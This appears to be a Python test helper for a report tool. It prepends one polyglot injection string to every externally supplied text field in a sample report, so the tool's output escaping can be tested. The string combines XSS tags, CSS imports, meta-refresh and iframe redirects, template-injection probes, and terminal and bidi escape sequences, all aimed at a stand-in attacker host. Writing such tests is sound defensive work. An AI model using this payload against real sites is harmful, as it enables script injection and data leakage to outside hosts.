"""A report in which every text that anybody outside could have chosen is an attack on whoever reads it."""

from __future__ import annotations

from datetime import datetime
from typing import TYPE_CHECKING, Any, get_type_hints

import msgspec
from msgspec.structs import replace

from tests import reports

if TYPE_CHECKING:
    from airgap_check.finding import Report

HOST = "203.0.113.9"  # nobody's; whoever asks for it has been fooled
ATTACK = (
    f"\"'><img src=http://{HOST}/i onerror=alert(1)><svg/onload=alert(2)><script src=//{HOST}/s></script>"
    f"<style>@import url(http://{HOST}/c);*{{background:url(//{HOST}/b)}}</style></style></script></title>"
    f"<link rel=prefetch href=//{HOST}/l><meta http-equiv=refresh content='0;url=http://{HOST}/m'>"
    f"<base href=//{HOST}/><iframe src=//{HOST}/f></iframe><form action=//{HOST}/><button>x</button></form>"
    f"{{{{ 7*7 }}}}{{% raw %}}javascript:alert(3) ![p](http://{HOST}/p) [a](http://{HOST}/a) www.{HOST} `x` | "
    "\u202e\x1b]8;;http://evil\x07\x00 \ufeff" + "w" * 300
)
_OURS = {"kind", "cause", "scope", "direction", "protocol", "seen", "state", "first", "last"}  # not a host's to choose


def hostile() -> Report:
    """Return the sample with the attack in every free text, before what stood there."""
    return _attacked(reports.sample())  # type: ignore[no-any-return]


def _attacked(value: Any) -> Any:
    if isinstance(value, msgspec.Struct):
        hints = get_type_hints(type(value), vars(__import__(type(value).__module__, fromlist=["x"])))
        fields = {name: _field(getattr(value, name), hints[name]) for name in value.__struct_fields__}
        return replace(value, **{name: found for name, found in fields.items() if name not in {"rule", "schema"}})
    if isinstance(value, tuple):
        return tuple(_attacked(item) if not isinstance(item, str) else ATTACK + item for item in value)
    return value


def _field(value: Any, hint: Any) -> Any:
    if isinstance(value, str):
        return ATTACK + value if hint in {str, str | None} else value
    if isinstance(value, dict):
        return {key: _record(key, item) for key, item in value.items()}
    if isinstance(value, datetime):
        return value
    return _attacked(value)


def _record(key: str, value: Any) -> Any:
    if isinstance(value, dict):
        return {name: _record(name, item) for name, item in value.items()}
    if isinstance(value, list | tuple):
        return [_record(key, item) for item in value]
    return ATTACK + value if isinstance(value, str) and key not in _OURS else value
